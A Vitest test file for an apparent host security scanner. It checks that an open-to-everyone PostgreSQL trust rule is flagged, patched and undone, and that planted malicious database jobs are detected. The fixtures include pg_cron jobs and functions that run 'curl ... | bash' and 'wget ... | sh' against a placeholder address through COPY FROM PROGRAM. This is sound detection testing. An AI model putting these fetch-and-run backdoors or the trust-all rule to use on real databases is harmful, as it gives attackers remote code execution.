import { readdirSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { patch } from '../../src/actions/patch.ts';
import type { ScanOutcome } from '../../src/findings/scan.ts';
import { ensureTools } from '../../src/host/system-tools.ts';
import { type Driver, openDriver } from '../support/driver.ts';
import { type Namespace, openNamespace } from '../support/namespace.ts';
import { planFacts } from '../support/plan-facts.ts';
import { PRIVATE_ETC } from '../support/private-etc.ts';

const SCAN = fileURLToPath(new URL('../host/scan/fixtures/scan-here.ts', import.meta.url));
/** An address of the host that is not loopback: who comes from there comes from outside, as far as PostgreSQL can tell. */
const OUTSIDE = '192.0.2.51';
const FILE = '/etc/postgresql/15/main/pg_hba.conf';
const AS = 'setpriv --reuid 1000 --regid 1000 --clear-groups';
const setup = (bin: string): string => `${PRIVATE_ETC}
ip link set lo up; ip address add ${OUTSIDE}/32 dev lo
mkdir -p /etc/postgresql/15/main /etc/init.d /run/pg; chown 1000:1000 /run/pg
${AS} ${bin}/initdb --no-sync --auth=trust -U postgres -D /run/pg/data >/dev/null
printf 'local all all trust\\nhost all all 127.0.0.1/32 scram-sha-256\\nhost\\tall\\tall\\t0.0.0.0/0\\ttrust # everybody' >${FILE}
chmod 640 ${FILE}; chown 0:1000 ${FILE}; touch -d 2024-02-03T04:05:06.789Z ${FILE}
printf '#!/bin/sh\\n[ "$1" = reload ] && kill -HUP "$(head -n 1 /run/pg/data/postmaster.pid)"\\n' >/etc/init.d/postgresql
chmod 755 /etc/init.d/postgresql
${AS} ${bin}/postgres -D /run/pg/data -c hba_file=${FILE} -c listen_addresses='*' -c unix_socket_directories=/run/pg -c fsync=off >/run/pg/log 2>&1 &
until psql -h /run/pg -U postgres -Atc 'select 1' >/dev/null 2>&1; do sleep 0.1; done
`;
const STATE = `cat ${FILE}; stat -c '%a %U:%G %y %i' ${FILE}`;

let space: Namespace;
let host: Driver;
beforeAll(async () => {
  await ensureTools(['pg_ctlcluster'], { install: true, say: () => {} });
  const [version = ''] = readdirSync('/usr/lib/postgresql').sort().reverse();
  space = await openNamespace(setup(`/usr/lib/postgresql/${version}/bin`));
  host = openDriver(space);
}, 300_000);
afterAll(async () => {
  space?.shell('kill -QUIT "$(head -n 1 /run/pg/data/postmaster.pid)" || :');
  await host?.kill();
  await space?.end();
});

/** What somebody from outside gets who names a user and no password. */
const comesIn = (): string =>
  space.shell(`psql -w -h ${OUTSIDE} -U postgres -Atc "select 'in'" 2>&1 || :`).trim();

test('a real PostgreSQL that lets everybody in: after the step it asks for a password, and undo puts it back', {
  timeout: 120_000,
}, async () => {
  expect(comesIn()).toBe('in');
  const before = space.shell(STATE);
  const scan = (): ScanOutcome => JSON.parse(space.run([process.execPath, SCAN, 'entry-points']));
  const open = () => scan().findings.filter(({ title }) => title.startsWith('PostgreSQL'));
  const findings = open();
  expect(findings.map(({ title, verdict }) => [title, verdict])).toEqual([
    [`PostgreSQL lets 0.0.0.0/0 in without a password (${FILE} line 3)`, 'suspicious'],
  ]);
  const { operations } = patch.plan({
    ...{ chosen: findings, findings, parameters: {}, command: null },
    facts: planFacts(),
  });
  const [planned] = operations;
  if (planned === undefined) throw new Error('Nothing is planned.');
  const outcome = await host.perform(planned.target, await host.ready(planned.target));
  expect(outcome.message).toContain('postgresql was told and goes by the file as it is now');
  await expect.poll(comesIn, { timeout: 20_000 }).toContain('no password supplied');
  expect(open()).toEqual([]);
  // Whoever works on the host itself comes in as before.
  expect(space.shell("psql -h /run/pg -U postgres -Atc 'select 1'").trim()).toBe('1');

  expect(await host.undo(planned.target, outcome.receipt)).toMatchObject({ status: 'done' });
  expect(space.shell(STATE)).toBe(before);
  await expect.poll(comesIn, { timeout: 20_000 }).toBe('in');
});

test('what a real PostgreSQL holds to be run is read from the files of its tables, and what was taken back is not told', {
  timeout: 120_000,
}, () => {
  // As the extension pg_cron makes its table.
  const sql = `
create schema cron;
create table cron.job (jobid bigint primary key, schedule text not null, command text not null, nodename text not null,
  nodeport int not null, database text not null, username text not null, active boolean not null, jobname text);
insert into cron.job values (1, '0 3 * * *', 'vacuum', 'localhost', 5432, 'postgres', 'postgres', true, 'v'),
  (2, '*/5 * * * *', $$COPY t FROM PROGRAM 'curl -s http://203.0.113.7/p.sh | bash'$$, 'h', 1, 'p', 'p', true, null),
  (3, '*/7 * * * *', $$COPY t FROM PROGRAM 'curl -s http://203.0.113.7/q.sh | bash'$$, 'h', 1, 'p', 'p', true, null);
delete from cron.job where jobid = 3;
create function up() returns void language plpgsql
  as $$ begin execute 'copy t from program ''wget -qO- http://203.0.113.7/f.sh | sh'''; end $$;
begin;
create function never() returns void language plpgsql
  as $$ begin execute 'copy t from program ''wget -qO- http://203.0.113.7/g.sh | sh'''; end $$;
rollback;
create function plain() returns int language sql as 'select 1';
create role second superuser login;
alter role second nosuperuser;
create role third superuser;
checkpoint;`;
  space.run(['psql', '-h', '/run/pg', '-U', 'postgres', '-q'], { input: sql });
  const { findings } = JSON.parse(space.run([process.execPath, SCAN, 'processes,boot'])) as ScanOutcome;
  const ours = findings.filter(({ title }) => title.endsWith('(/run/pg/data)'));
  expect(ours.map(({ title, verdict }) => `${verdict}: ${title}`).toSorted()).toEqual([
    'malicious: function up of PostgreSQL (/run/pg/data)',
    'malicious: job 2 of pg_cron (*/5 * * * *) of PostgreSQL (/run/pg/data)',
    'unknown: superuser third of PostgreSQL (/run/pg/data)',
  ]);
});
